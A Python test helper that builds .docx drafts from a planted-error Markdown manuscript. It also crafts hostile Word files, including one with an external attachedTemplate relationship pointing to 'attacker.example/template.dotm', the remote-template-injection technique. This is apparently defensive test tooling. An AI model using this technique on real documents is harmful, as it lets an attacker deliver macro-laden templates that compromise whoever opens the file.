"""Test drafts: the planted-error manuscript for the demo study, as Markdown and as a .docx
built from the same text (headings and block quotes as Word styles, emphasis as italic runs),
and hostile .docx files."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx

HERE = Path(__file__).parent / "drafts"
PLANTED_MD = HERE / "demo-planted.md"


def docx_from_markdown(text: str) -> bytes:
    document = docx.Document()
    for block in re.split(r"\n\s*\n", text.strip()):
        line = " ".join(block.split())
        heading = re.match(r"^(#{1,6})\s+(.*)$", line)
        if heading:
            document.add_heading(heading.group(2), level=len(heading.group(1)))
            continue
        if line.startswith(">"):
            document.add_paragraph(line.lstrip("> "), style="Quote")
            continue
        paragraph = document.add_paragraph()
        for i, piece in enumerate(re.split(r"\*([^*]+)\*", line)):
            if piece:
                paragraph.add_run(piece).italic = i % 2 == 1
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def planted_docx() -> bytes:
    return docx_from_markdown(PLANTED_MD.read_text(encoding="utf-8"))


def with_part(data: bytes, name: str, content: str) -> bytes:
    """``data`` with one more archive member."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr(name, content)
    return out.getvalue()


def with_external_relationship(data: bytes, kind: str = "attachedTemplate") -> bytes:
    """``data`` with a relationship to a template on another machine (settings.xml.rels)."""
    return with_part(
        data,
        "word/_rels/settings.xml.rels",
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="http://attacker.example/template.dotm" TargetMode="External"/>'
        "</Relationships>",
    )
